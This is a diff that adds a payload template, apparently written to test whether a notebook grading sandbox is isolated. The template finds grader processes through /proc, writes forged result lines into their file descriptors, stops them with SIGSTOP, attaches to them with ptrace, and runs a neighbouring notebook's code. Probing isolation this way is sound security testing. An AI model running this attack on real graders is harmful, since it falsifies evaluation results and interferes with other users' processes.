@@ -357,3 +357,55 @@ try:
 except OSError:
     pass
 '''
+
+# Aimed at the grading processes, which run as the same user as the kernel when the grader
+# is run by a normal user: every process whose command line holds the marker gets a forged
+# result line in each file descriptor it holds, a SIGSTOP and a ptrace seize; then the
+# neighbour's notebook is read and its code run. ``reached`` lists what worked.
+WORKER_ATTACK = r'''
+import ctypes, json, os, signal
+reached = []
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+for pid in os.listdir("/proc"):
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        with open(f"/proc/{{pid}}/cmdline", "rb") as f:
+            if {marker!r}.encode() not in f.read():
+                continue
+    except OSError:
+        continue
+    reached.append(f"saw {{pid}}")
+    try:
+        fds = os.listdir(f"/proc/{{pid}}/fd")
+    except OSError:
+        fds = []
+    for fd in fds:
+        try:
+            with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as f:
+                f.write({forged!r} + "\n")
+            reached.append(f"wrote {{pid}}/{{fd}}")
+        except OSError:
+            pass
+    try:
+        os.kill(int(pid), signal.SIGSTOP)
+        reached.append(f"stopped {{pid}}")
+    except OSError:
+        pass
+    if _libc.ptrace(0x4206, int(pid), None, None) == 0:  # PTRACE_SEIZE; ends with this process
+        reached.append(f"traced {{pid}}")
+try:
+    with open({neighbour!r}) as f:
+        _cells = json.load(f)["cells"]
+    reached.append("read neighbour")
+except Exception:
+    _cells = []
+for _cell in _cells:
+    _src = "".join(_cell["source"])
+    if _cell["cell_type"] == "code" and "check(" not in _src:
+        try:
+            exec(_src, globals())
+        except Exception:
+            pass
+'''
